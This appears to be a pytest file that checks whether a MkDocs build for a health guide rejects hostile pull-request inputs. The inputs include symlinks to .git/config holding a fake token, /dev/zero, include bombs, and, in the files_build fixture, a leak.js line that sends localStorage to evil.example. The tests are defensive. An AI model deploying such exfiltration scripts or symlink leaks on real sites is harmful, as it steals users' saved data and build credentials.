"""Files the build reads, follows or writes: links under docs/, the word lists the settings name, the folder the
report goes to, shared text that includes shared text, and scripts in docs/.

Each input comes from a pull request, so none may make the build publish or print a file from elsewhere (the
repository's .git/config can hold a build server's token), read without end (/dev/zero), write into the
published site, or run for ever. Each gets one message naming its file (and line) and what to do, the strict
build fails, and there is no traceback. The inputs are grouped into a few builds: most stop at the settings,
before MkDocs lists the pages, and cost little; one full build holds the rest.
"""

from __future__ import annotations

import os
import re
import subprocess
from pathlib import Path

import pytest
import yaml

import conftest
from conftest import REPO, build_once, make_site, page, real_config, run_mkdocs
from kapguide.build_cache import REPORT_ENV

SECRET = "token-7f3a-do-not-publish"  # what the build must never publish or print
GIT_CONFIG = f'[core]\n\tbare = false\n[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic {SECRET}\n'
GOOD = "You can read this page in a minute. It is calm and plain."
QUICK = 60  # seconds: each of these builds takes a second or two; unprotected, some of them never ended


def run_briefly(config: Path, site: Path, env: dict | None = None) -> subprocess.CompletedProcess:
    """run_mkdocs with a short time limit, so that an input making the build run without end fails the test soon."""
    saved, conftest.BUILD_TIMEOUT = conftest.BUILD_TIMEOUT, QUICK
    try:
        return run_mkdocs(config, site, env)
    finally:
        conftest.BUILD_TIMEOUT = saved


def project(root: Path, pages: dict[str, str | bytes], extra: dict | None = None) -> tuple[Path, Path]:
    """A fixture site in a repository of its own, whose .git/config holds a token, as on a build server."""
    (root / ".git").mkdir(parents=True, exist_ok=True)
    (root / ".git" / "config").write_text(GIT_CONFIG, encoding="utf-8")
    pages = {"index.md": page("Home"), **pages}
    menu = ["get-help-now.md"] + [name for name in pages if name.endswith(".md") and not name.startswith("_snippets/")]
    snippets = {"pymdownx.snippets": {"base_path": [str(root / "docs" / "_snippets")], "check_paths": True}}
    extensions = [snippets if isinstance(ext, dict) and "pymdownx.snippets" in ext else ext
                  for ext in real_config()["markdown_extensions"]]  # the shared texts of this site, not the guide's
    return make_site(root, pages, nav=menu, extra=extra, config={"markdown_extensions": extensions})


def included_on_line_10(title: str, include: str) -> str:
    """A page whose include ('--8<-- "file.md"') is on line 10 of its file."""
    return page(title, f"{GOOD}\n\n{include}")


def assert_named_once(output: str, *messages: str) -> None:
    """Each message (a regular expression) is in the build's messages exactly once."""
    for message in messages:
        count = len(re.findall(message, output))
        assert count == 1, f"{message!r} is in the messages {count} times:\n{output[-4000:]}"


def assert_failed_safely(result: subprocess.CompletedProcess) -> None:
    output = result.stdout + result.stderr
    assert result.returncode != 0, output[-3000:]
    assert "Traceback" not in output and SECRET not in output, output[-3000:]


# ---------------------------------------------------------------- links MkDocs would follow: the build stops first

@pytest.fixture(scope="module")
def folder_links(tmp_path_factory) -> tuple[subprocess.CompletedProcess, Path]:
    return build_once(tmp_path_factory, "hostile-folder-links", build_folder_links)


def build_folder_links(root: Path) -> subprocess.CompletedProcess:
    config, site = project(root, {"preparation/index.md": page("Getting ready"), "second/inner-page.md": page("Inner"),
                                  "third/other.md": page("Other")},
                           extra={"checks": {"report_dir": "/tmp/kap-anywhere"}})
    docs = root / "docs"
    os.symlink(".", docs / "assets" / "loop")         # two links to their own folder: MkDocs' walk would never end
    os.symlink(".", docs / "assets" / "loop-too")
    os.symlink(".", docs / "preparation" / "self")
    os.symlink("../..", docs / "up")                  # the project's parent: MkDocs would list everything there
    os.symlink("../.git", docs / "git")
    os.symlink("second", docs / "first")              # a folder link to a folder that holds another folder link
    os.symlink("../third", docs / "second" / "inner")
    (root / "search-words.yml").write_bytes(b"synonyms:\n  throw up: vomit\n# caf\xe9\ncrisis: [kill myself]\n")
    return run_briefly(config, site)


def test_folder_links_that_lead_out_or_round_stop_the_build_before_mkdocs_follows_them(folder_links):
    result, root = folder_links
    assert_failed_safely(result)
    follows = "; the build stops before MkDocs follows it. Fix: Replace the link with the folder itself"
    assert_named_once(result.stderr,
                      re.escape(f"docs/assets/loop: This is a link to the folder that holds it ('.'), so that folder "
                                f"would hold itself again and again{follows}"),
                      re.escape("docs/assets/loop-too: This is a link to the folder that holds it ('.')"),
                      re.escape("docs/preparation/self: This is a link to the folder that holds it ('.')"),
                      re.escape(f"docs/up: This is a link to a folder outside the repository ('../..'){follows}"),
                      re.escape("docs/git: This is a link to a folder inside .git, the repository's own files"),
                      re.escape("docs/first: This is a link to a folder ('second') that holds another folder link "
                                "(second/inner); the build follows one folder link at most"))
    assert "docs/second/inner:" not in result.stderr  # a link to a folder without links in it: MkDocs may follow it
    assert "The build stopped before MkDocs reads the pages, because of the" in result.stdout + result.stderr
    assert len([line for line in result.stderr.splitlines() if line.startswith("ERROR")]) < 15  # no flood of messages
    assert not (root / "site").exists()


def test_a_search_words_file_that_is_not_utf8_is_named_with_the_line_of_the_bad_byte(folder_links):
    result, _ = folder_links
    assert_named_once(result.stderr, re.escape("search-words.yml:3: This file is not valid UTF-8 text. Fix: Save the "
                                               "file as UTF-8"))


def test_a_report_folder_outside_the_project_is_refused(folder_links):
    result, _ = folder_links
    assert_named_once(result.stderr, r"mkdocs\.yml:\d+: extra\.checks\.report_dir: '/tmp/kap-anywhere' is not a folder "
                                     r"inside the project\. Fix: Use a folder of its own inside the project")


@pytest.fixture(scope="module")
def spanish_pages_elsewhere(tmp_path_factory) -> tuple[subprocess.CompletedProcess, Path]:
    return build_once(tmp_path_factory, "hostile-docs-dir-link", build_spanish_pages_elsewhere)


def build_spanish_pages_elsewhere(root: Path) -> subprocess.CompletedProcess:
    """The Spanish pages' folder swapped for a link to a folder outside the project, then the Spanish guide built."""
    config, site = project(root / "guide", {}, extra={"languages": ["en", "es"]})
    outside = root / "outside"
    outside.mkdir()
    (outside / "index.md").write_text(page("Fuera", f"Texto de fuera: {SECRET}."), encoding="utf-8")
    os.symlink(outside, root / "guide" / "docs-es")
    spanish = config.with_name("mkdocs.es.yml")
    spanish.write_text("INHERIT: mkdocs.yml\ndocs_dir: docs-es\nsite_dir: site/es\ntheme:\n  language: es\n",
                       encoding="utf-8")
    return run_briefly(spanish, site / "es")


def test_a_folder_of_pages_that_is_a_link_out_of_the_project_is_refused(spanish_pages_elsewhere):
    result, root = spanish_pages_elsewhere
    assert_failed_safely(result)
    assert_named_once(result.stderr, re.escape(f"mkdocs.es.yml:2: docs_dir: 'docs-es' is a link to '{root / 'outside'}'; "
                                               "the pages must be in a folder of the project itself."))
    assert not (root / "guide" / "site").exists()


# ---------------------------------------------------------------- the search-words file the settings name

INSIDE = r"; the build reads only the project's own files\. Fix: Name a file inside the project"
SEARCH_WORDS = {  # name -> (extra.search.words, the message it gets: a regular expression after 'mkdocs.yml:LINE: ')
    "absolute": ("{outside}", r"extra\.search\.words: '[^']+/secret-search\.yml' is an absolute path; the build reads "
                              r"only files inside the project\."),
    "dev-zero": ("/dev/zero", r"extra\.search\.words: '/dev/zero' is an absolute path"),
    "climbs-out": ("../secret-search.yml", r"extra\.search\.words: '\.\./secret-search\.yml' is outside the project"
                   + INSIDE),
    "link-out": ("zero.yml", r"extra\.search\.words: 'zero\.yml' is a link to a file outside the project" + INSIDE),
    "git": (".git/config", r"extra\.search\.words: '\.git/config' is inside \.git, the repository's own files" + INSIDE),
}


def build_search_words(name: str):
    """A build whose extra.search.words is SEARCH_WORDS[name]; beside the project, a list of words to keep out."""
    def build(root: Path) -> subprocess.CompletedProcess:
        guide = root / "guide"
        guide.mkdir()
        outside = root / "secret-search.yml"
        outside.write_text(f"synonyms:\n  {SECRET}: help\n", encoding="utf-8")
        os.symlink("/dev/zero", guide / "zero.yml")
        value = SEARCH_WORDS[name][0].format(outside=outside)
        return run_briefly(*project(guide, {}, extra={"search": {"words": value}}))
    return build


@pytest.mark.parametrize("name", SEARCH_WORDS)
def test_the_search_words_setting_must_name_a_file_inside_the_project(tmp_path_factory, name):
    result, _ = build_once(tmp_path_factory, f"hostile-search-words-{name}", build_search_words(name))
    assert_failed_safely(result)
    assert_named_once(result.stderr, r"mkdocs\.yml:\d+: " + SEARCH_WORDS[name][1])


def build_large_search_words(root: Path) -> subprocess.CompletedProcess:
    config, site = project(root, {})
    (root / "search-words.yml").write_text("synonyms:\n" + "  throw up: vomit, feeling sick\n" * 40_000, encoding="utf-8")
    return run_briefly(config, site)


def test_a_search_words_file_over_a_megabyte_is_not_read(tmp_path_factory):
    result, _ = build_once(tmp_path_factory, "hostile-search-words-large", build_large_search_words)
    assert_failed_safely(result)
    assert_named_once(result.stderr, re.escape("search-words.yml: This file is larger than 1 MB; a list of words is a "
                                               "few pages at most, so the build does not read it."))


# ---------------------------------------------------------------- one full build: links to files, scripts, shared text

def shared_text_bombs() -> dict[str, str]:
    """Shared texts that include shared texts: 21 files each including the next twice (a million copies), three
    files each including the next eight times (73 includes), and one of 1.1 MB."""
    files = {f"_snippets/s{i}.md": f'--8<-- "s{i + 1}.md"\n--8<-- "s{i + 1}.md"\n' for i in range(20)}
    files["_snippets/s20.md"] = "Rest.\n"
    files.update({"_snippets/w0.md": '--8<-- "w1.md"\n' * 8, "_snippets/w1.md": '--8<-- "w2.md"\n' * 8,
                  "_snippets/w2.md": "Rest.\n"})
    files["_snippets/big.md"] = ("Rest a while. " * 80 + "\n\n") * 1000
    files["_snippets/warning-signs.md"] = (REPO / "docs" / "_snippets" / "warning-signs.md").read_text(encoding="utf-8")
    return files


@pytest.fixture(scope="module")
def files_build(tmp_path_factory) -> tuple[subprocess.CompletedProcess, Path]:
    return build_once(tmp_path_factory, "hostile-files", build_files)


def build_files(root: Path) -> subprocess.CompletedProcess:
    outside_words = root.parent / f"{root.name}-plain-words.yml"
    outside_words.write_text(f"quietword: {SECRET}\n", encoding="utf-8")
    pages = {
        **shared_text_bombs(),
        "doubling.md": included_on_line_10("Doubling", '--8<-- "s0.md"'),
        "wide.md": included_on_line_10("Wide", '--8<-- "w0.md"'),
        "large.md": included_on_line_10("Large", '--8<-- "big.md"'),
        "signs.md": included_on_line_10("Signs", '--8<-- "warning-signs.md"\n\n[Get help now](get-help-now.md)'),
        "words.md": page("Words", "Say the quietword when you are ready."),
        "assets/javascripts/leak.js": 'location.href = "https:" + "//evil.example/nav?" + '
                                      "encodeURIComponent(JSON.stringify(localStorage));\n",
        "assets/module.mjs": "export const answers = localStorage;\n",
    }
    config, site = project(root, pages, extra={"checks": {"report_dir": "site/rep", "plain_words": str(outside_words)}})
    (root / "worksheet-outside.yml").write_text(yaml.safe_dump({
        "id": "leak", "title": f"Sheet {SECRET}", "section": "preparation", "purpose": "P.", "instructions": "I.",
        "pages": 1, "fields": [{"kind": "lines", "id": "one", "label": "Answer", "lines": 2}]}), encoding="utf-8")
    (root / "notes-outside.md").write_text(page("Notes", f"The token is {SECRET}."), encoding="utf-8")
    docs = root / "docs"
    (docs / "worksheets").mkdir()
    for link, target in {"robots.txt": "../.git/config", "assets/images/pixel.png": "../../../.git/config",
                         "assets/images/dangling.png": "does-not-exist.png", "assets/images/circle.png": "circle.png",
                         "worksheets/leak.yml": "../../worksheet-outside.yml", "notes.md": "../notes-outside.md",
                         "assets/images/alias.svg": "favicon.svg"}.items():
        os.symlink(target, docs / link)
    return run_briefly(config, site, {REPORT_ENV: ""})  # the report goes where the settings say


def test_links_to_files_outside_docs_are_left_out_before_anything_reads_them(files_build):
    result, root = files_build
    assert_failed_safely(result)
    not_published = "; it is not published. Fix: Put the file itself in docs/ instead of a link to it."
    git = "a file inside .git, the repository's own files (on a build server they can hold its access token)"
    assert_named_once(result.stderr,
                      re.escape(f"docs/robots.txt: This is a link to {git} ('../.git/config'){not_published}"),
                      re.escape(f"docs/assets/images/pixel.png: This is a link to {git} ('../../../.git/config')"),
                      re.escape("docs/assets/images/dangling.png: This is a link to a file that does not exist "
                                f"('does-not-exist.png'){not_published}"),
                      re.escape("docs/assets/images/circle.png: This is a link ('circle.png') that leads back to "
                                "itself (a loop of links)"),
                      re.escape("docs/worksheets/leak.yml: This is a link to a file outside docs/ "
                                "('../../worksheet-outside.yml')"),
                      re.escape("docs/notes.md: This is a link to a file outside docs/ ('../notes-outside.md')"))
    site = root / "site"
    for name in ("robots.txt", "assets/images/pixel.png", "assets/images/dangling.png", "notes", "worksheets/leak"):
        assert not (site / name).exists(), name
    assert all(SECRET.encode() not in path.read_bytes() for path in site.rglob("*") if path.is_file())
    favicon = (REPO / "docs" / "assets" / "images" / "favicon.svg").read_bytes()
    assert (site / "assets" / "images" / "alias.svg").read_bytes() == favicon  # a link inside docs/ is fine


def test_scripts_in_docs_are_not_published_and_the_sites_own_come_from_the_theme(files_build):
    result, root = files_build
    assert_named_once(result.stderr,
                      re.escape("docs/assets/javascripts/leak.js: 'leak.js' is a script. Scripts are not published "
                                "from docs/: a script there could read the answers patients save on their device, or "
                                "send them to another site. Fix: Remove the file. The site's own scripts are in "
                                "overrides/assets/javascripts/"),
                      re.escape("docs/assets/module.mjs: 'module.mjs' is a script."))
    scripts = root / "site" / "assets" / "javascripts"
    assert not (scripts / "leak.js").exists() and not (root / "site" / "assets" / "module.mjs").exists()
    assert (scripts / "worksheets.js").is_file() and not (REPO / "docs" / "assets" / "javascripts").exists()


def test_shared_text_that_multiplies_itself_is_stopped_before_it_is_expanded(files_build):
    result, root = files_build
    assert_named_once(result.stderr,
                      re.escape("docs/_snippets/s2.md:1: Shared text is included inside shared text more than 3 levels "
                                "deep. Fix: Include the files from the page instead. (This shared text is used by "
                                "docs/doubling.md (line 10).)"),
                      re.escape("docs/wide.md:10: With this include the page brings in more than 50 shared texts "
                                "(counting the shared texts included inside shared texts), so this include and any "
                                "after it are left out. Fix: Include each shared text once"),
                      re.escape("docs/large.md:10: With this include the page brings in more than 1,000,000 characters "
                                "of shared text"))
    for name in ("doubling", "wide", "large"):
        html = (root / "site" / name / "index.html").read_text(encoding="utf-8")
        assert "Rest" not in html and "8&lt;" not in html, name  # the include line is left out, not shown as text
    signs = (root / "site" / "signs" / "index.html").read_text(encoding="utf-8")
    assert "Get help now" in signs and len(signs) > len((root / "site" / "wide" / "index.html").read_text()) + 500


def test_a_report_folder_inside_the_site_is_refused_and_the_report_is_written_in_the_project(files_build):
    result, root = files_build
    assert_named_once(result.stderr, r"mkdocs\.yml:\d+: extra\.checks\.report_dir: 'site/rep' would mix the build "
                                     r"report with the built site\.")
    assert not (root / "site" / "rep").exists()
    assert (root / "build-report" / "report.json").is_file()


def test_a_plain_words_file_outside_the_project_is_not_read(files_build):
    result, _ = files_build
    assert_named_once(result.stderr, r"mkdocs\.yml:\d+: extra\.checks\.plain_words: '[^']+-plain-words\.yml' is an "
                                     r"absolute path; the build reads only files inside the project\.")
    assert "quietword" not in result.stderr  # its words were never read, so never named


@pytest.fixture(scope="module")
def spanish_shared_assets(tmp_path_factory) -> tuple[subprocess.CompletedProcess, Path]:
    return build_once(tmp_path_factory, "hostile-shared-assets", build_spanish_shared_assets)


def build_spanish_shared_assets(root: Path) -> subprocess.CompletedProcess:
    """The Spanish guide alone, which takes the pictures and styles of docs/assets/ from the English guide."""
    config, site = project(root, {"assets/javascripts/leak.js": "fetch('/x?' + JSON.stringify(localStorage));\n"},
                           extra={"languages": ["en", "es"]})
    os.symlink("../../../.git/config", root / "docs" / "assets" / "images" / "pixel.png")
    (root / "docs-es").mkdir()
    (root / "docs-es" / "index.md").write_text(page("Inicio", "Puede leer esta página en un minuto."), encoding="utf-8")
    spanish = config.with_name("mkdocs.es.yml")
    spanish.write_text("INHERIT: mkdocs.yml\ndocs_dir: docs-es\nsite_dir: site/es\nnav: [index.md]\ntheme:\n"
                       "  language: es\n", encoding="utf-8")
    return run_briefly(spanish, site / "es")


def test_the_shared_assets_another_language_takes_from_docs_are_checked_too(spanish_shared_assets):
    result, root = spanish_shared_assets
    assert_failed_safely(result)
    assert_named_once(result.stderr,
                      re.escape("docs/assets/images/pixel.png: This is a link to a file inside .git"),
                      re.escape("docs/assets/javascripts/leak.js: 'leak.js' is a script."))
    site = root / "site" / "es"
    assert (site / "index.html").is_file() and (site / "assets" / "images" / "favicon.svg").is_file()
    assert not (site / "assets" / "images" / "pixel.png").exists()
    assert not (site / "assets" / "javascripts" / "leak.js").exists()
